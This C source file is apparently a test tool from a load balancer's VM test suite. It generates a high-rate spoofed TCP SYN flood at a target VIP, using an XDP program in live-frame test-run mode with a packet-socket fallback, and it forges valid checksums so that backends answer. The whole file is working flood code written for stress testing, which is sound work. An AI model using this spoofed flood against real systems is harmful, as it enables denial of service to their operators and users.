// SPDX-License-Identifier: GPL-2.0-only
/*
 * A spoofed SYN flood for vmtests/scenarios/syn_flood.sh: TCP SYNs from
 * random source addresses (a /16) and ports to one VIP, as fast as this
 * machine makes frames. Frames are made in the kernel in live-frame mode
 * (BPF_PROG_TEST_RUN with BPF_F_TEST_XDP_LIVE_FRAMES, Linux 5.18+), the way
 * bench/pps_gen.c makes its UDP frames: a tiny XDP program stamps each frame
 * from a template, gives it a random source, and redirects it out of --iface,
 * so it reaches the node's interface as a received frame. Where the kernel
 * refuses live frames (EPERM), the same frames leave from a packet socket.
 *
 * Checksums stay valid without being recomputed per frame (so backends
 * answer the SYNs, as they answer a real flood): the template holds zeros
 * where the random source address low half (A) and source port (B) go, and
 * 0xffff in two fields that are free to carry anything, the IP ID and the low
 * half of the sequence number. The program writes ~A into the IP ID and
 * ~(A + B) into the sequence number (ones' complement sums), so every
 * checksummed sum stays what it was in the template.
 *
 * Usage: syn_flood --iface IF --dst-mac MAC --src-net A.B.0.0 --dst IP
 *                  --dport N [--seconds S] [--cpu N]
 * Runs in the client's network namespace. Prints one JSON object on stdout:
 * {"seconds", "sent", "pps", "mode"} (mode: "live-frames" or "packet-socket").
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <linux/bpf.h>

#include "live_frame.h"

#define FRAME_LEN 60 /* Ethernet + IPv4 + TCP (54 bytes), padded to the minimum frame */
#define HDR_WORDS 14 /* the first 56 bytes are rewritten from the template */
#define OFF_IP 14
#define OFF_TCP 34
#define OFF_IP_ID (OFF_IP + 4)
#define OFF_SADDR_LO (OFF_IP + 14) /* low half of the source address */
#define OFF_SPORT OFF_TCP
#define OFF_SEQ_LO (OFF_TCP + 6) /* low half of the sequence number */

static int build_template(unsigned char *f, const char *ifname, const char *dst_mac,
			  struct in_addr src_net, struct in_addr dst, int dport)
{
	unsigned char *tcp = f + OFF_TCP;

	memset(f, 0, FRAME_LEN);
	if (live_frame_parse_mac(dst_mac, f)) {
		fprintf(stderr, "syn_flood: --dst-mac %s: expected aa:bb:cc:dd:ee:ff\n", dst_mac);
		return -EINVAL;
	}
	if (live_frame_iface_mac(ifname, f + 6)) {
		fprintf(stderr, "syn_flood: --iface %s: no MAC address\n", ifname);
		return -ENODEV;
	}
	src_net.s_addr &= htonl(0xffff0000); /* the low half is A per frame */
	/* total length 40; the IP ID carries ~A per frame */
	live_frame_ipv4(f, 40, 0xffff, IPPROTO_TCP, src_net, dst);
	/* TCP: source port 0 (B per frame), sequence 0x5eed????, SYN, window 64240. */
	*(__u16 *)(tcp + 2) = htons(dport);
	tcp[4] = 0x5e;
	tcp[5] = 0xed;
	tcp[6] = tcp[7] = 0xff; /* carries ~(A + B) per frame */
	tcp[12] = 5 << 4; /* data offset: 20 bytes */
	tcp[13] = 0x02; /* SYN */
	*(__u16 *)(tcp + 14) = htons(64240);
	*(__u16 *)(tcp + 16) = pb_fold(
		pb_sum(tcp, 20, pb_pseudo(4, &src_net.s_addr, &dst.s_addr, IPPROTO_TCP, 20)));
	return 0;
}

static int load_gen(int ifindex, const unsigned char *frame)
{
	struct bpf_insn insns[64];
	char log[4096] = "";
	LIBBPF_OPTS(bpf_prog_load_opts, o, .log_buf = log, .log_size = sizeof(log));
	int n = 0, w, jmp, fd;

	insns[n++] = MOV64_REG(BPF_REG_6, BPF_REG_1);
	insns[n++] = CALL(BPF_FUNC_get_prandom_u32);
	insns[n++] = MOV64_REG(BPF_REG_7, BPF_REG_0); /* A: source address, low half */
	insns[n++] = ALU64_IMM(BPF_AND, BPF_REG_7, 0xffff);
	insns[n++] = MOV64_REG(BPF_REG_8, BPF_REG_0); /* B: source port, never 0 */
	insns[n++] = ALU64_IMM(BPF_RSH, BPF_REG_8, 16);
	insns[n++] = ALU64_IMM(BPF_OR, BPF_REG_8, 1);
	/* C = ~(A + B) in ones' complement: add, fold the carry once (A, B < 2^16), invert. */
	insns[n++] = MOV64_REG(BPF_REG_9, BPF_REG_7);
	insns[n++] = ALU64_REG(BPF_ADD, BPF_REG_9, BPF_REG_8);
	insns[n++] = MOV64_REG(BPF_REG_1, BPF_REG_9);
	insns[n++] = ALU64_IMM(BPF_RSH, BPF_REG_1, 16);
	insns[n++] = ALU64_IMM(BPF_AND, BPF_REG_9, 0xffff);
	insns[n++] = ALU64_REG(BPF_ADD, BPF_REG_9, BPF_REG_1);
	insns[n++] = ALU64_IMM(BPF_XOR, BPF_REG_9, 0xffff);
	insns[n++] = LDX_MEM(BPF_W, BPF_REG_2, BPF_REG_6, offsetof(struct xdp_md, data));
	insns[n++] = LDX_MEM(BPF_W, BPF_REG_3, BPF_REG_6, offsetof(struct xdp_md, data_end));
	insns[n++] = MOV64_REG(BPF_REG_4, BPF_REG_2);
	insns[n++] = ALU64_IMM(BPF_ADD, BPF_REG_4, HDR_WORDS * 4);
	jmp = n++; /* to the drop at the end, patched below */
	for (w = 0; w < HDR_WORDS; w++) {
		__s32 word;

		memcpy(&word, frame + 4 * w, 4); /* bytes in frame order, stored as they are */
		insns[n++] = ST_MEM(BPF_W, BPF_REG_2, 4 * w, word);
	}
	/* Same-width stores of A, ~A, B, C: byte order does not matter to the sums. */
	insns[n++] = STX_MEM(BPF_H, BPF_REG_2, BPF_REG_7, OFF_SADDR_LO);
	insns[n++] = MOV64_REG(BPF_REG_1, BPF_REG_7);
	insns[n++] = ALU64_IMM(BPF_XOR, BPF_REG_1, 0xffff);
	insns[n++] = STX_MEM(BPF_H, BPF_REG_2, BPF_REG_1, OFF_IP_ID);
	insns[n++] = STX_MEM(BPF_H, BPF_REG_2, BPF_REG_8, OFF_SPORT);
	insns[n++] = STX_MEM(BPF_H, BPF_REG_2, BPF_REG_9, OFF_SEQ_LO);
	insns[n++] = MOV64_IMM(BPF_REG_1, ifindex);
	insns[n++] = MOV64_IMM(BPF_REG_2, 0);
	insns[n++] = CALL(BPF_FUNC_redirect);
	insns[n++] = EXIT();
	insns[jmp] = JGT_REG(BPF_REG_4, BPF_REG_3, n - jmp - 1);
	insns[n++] = MOV64_IMM(BPF_REG_0, XDP_DROP);
	insns[n++] = EXIT();
	fd = bpf_prog_load(BPF_PROG_TYPE_XDP, "fx_syn", "GPL", insns, n, &o);
	if (fd < 0) {
		o.log_level = 1;
		fd = bpf_prog_load(BPF_PROG_TYPE_XDP, "fx_syn", "GPL", insns, n, &o);
		fprintf(stderr, "syn_flood: loading the generator: %s\n%s\n", strerror(errno), log);
	}
	return fd;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The generator program's stamp (load_gen), for the packet-socket fallback. */
static void stamp(unsigned char *f, __u64 rnd, void *arg)
{
	__u16 a = rnd & 0xffff, b = (rnd >> 16) | 1;
	__u32 sum = (__u32)a + b;

	(void)arg;
	*(__u16 *)(f + OFF_SADDR_LO) = a;
	*(__u16 *)(f + OFF_IP_ID) = ~a;
	*(__u16 *)(f + OFF_SPORT) = b;
	*(__u16 *)(f + OFF_SEQ_LO) = ~((sum & 0xffff) + (sum >> 16));
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = { { "iface", required_argument, NULL, 'i' },
						  { "dst-mac", required_argument, NULL, 'm' },
						  { "src-net", required_argument, NULL, 's' },
						  { "dst", required_argument, NULL, 'd' },
						  { "dport", required_argument, NULL, 'p' },
						  { "seconds", required_argument, NULL, 't' },
						  { "cpu", required_argument, NULL, 'c' },
						  {} };
	const char *iface = NULL, *dst_mac = NULL, *src = NULL, *dst = NULL;
	unsigned char frame[FRAME_LEN];
	struct in_addr src_net, dst_addr;
	double seconds = 5, t0, end;
	int dport = 0, cpu = -1, ifindex, fd, c;
	const char *mode = "live-frames";
	long long sent = 0;

	while ((c = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (c) {
		case 'i':
			iface = optarg;
			break;
		case 'm':
			dst_mac = optarg;
			break;
		case 's':
			src = optarg;
			break;
		case 'd':
			dst = optarg;
			break;
		case 'p':
			dport = atoi(optarg);
			break;
		case 't':
			seconds = atof(optarg);
			break;
		case 'c':
			cpu = atoi(optarg);
			break;
		default:
			return 2;
		}
	}
	if (!iface || !dst_mac || !src || !dst || dport <= 0 || dport > 65535 || seconds <= 0 ||
	    inet_pton(AF_INET, src, &src_net) != 1 || inet_pton(AF_INET, dst, &dst_addr) != 1) {
		fprintf(stderr, "Usage: syn_flood --iface IF --dst-mac MAC --src-net A.B.0.0 --dst "
				"IP --dport N [--seconds S] [--cpu N]\n");
		return 2;
	}
	ifindex = if_nametoindex(iface);
	if (!ifindex) {
		fprintf(stderr, "syn_flood: --iface %s: no such interface here\n", iface);
		return 2;
	}
	if (cpu >= 0) {
		cpu_set_t set;

		CPU_ZERO(&set);
		CPU_SET(cpu, &set);
		sched_setaffinity(0, sizeof(set), &set);
	}
	if (build_template(frame, iface, dst_mac, src_net, dst_addr, dport))
		return 2;
	fd = load_gen(ifindex, frame);
	if (fd < 0)
		return 1;

	struct xdp_md ctx = { .data_end = FRAME_LEN, .ingress_ifindex = ifindex };
	LIBBPF_OPTS(bpf_test_run_opts, t, .data_in = frame, .data_size_in = FRAME_LEN,
		    .ctx_in = &ctx, .ctx_size_in = sizeof(ctx), .repeat = 1 << 14,
		    .flags = BPF_F_TEST_XDP_LIVE_FRAMES, .batch_size = 64);
	t0 = now_s();
	end = t0 + seconds;
	while (now_s() < end) {
		if (!bpf_prog_test_run_opts(fd, &t)) {
			sent += t.repeat;
			continue;
		}
		if (errno != EPERM || sent) {
			fprintf(stderr, "syn_flood: BPF_PROG_TEST_RUN (live frames): %s\n",
				strerror(errno));
			close(fd);
			return 1;
		}
		fprintf(stderr,
			"syn_flood: this kernel refuses live-frame test_run (%s): "
			"sending from a packet socket\n",
			strerror(errno));
		mode = "packet-socket";
		sent = live_frame_sock_send(ifindex, frame, FRAME_LEN, end - now_s(), stamp, NULL);
		if (sent < 0) {
			fprintf(stderr, "syn_flood: packet socket: %s\n", strerror((int)-sent));
			close(fd);
			return 1;
		}
		break;
	}
	t0 = now_s() - t0;
	printf("{\"seconds\": %.3f, \"sent\": %lld, \"pps\": %.0f, \"mode\": \"%s\"}\n", t0, sent,
	       sent / t0, mode);
	close(fd);
	return 0;
}
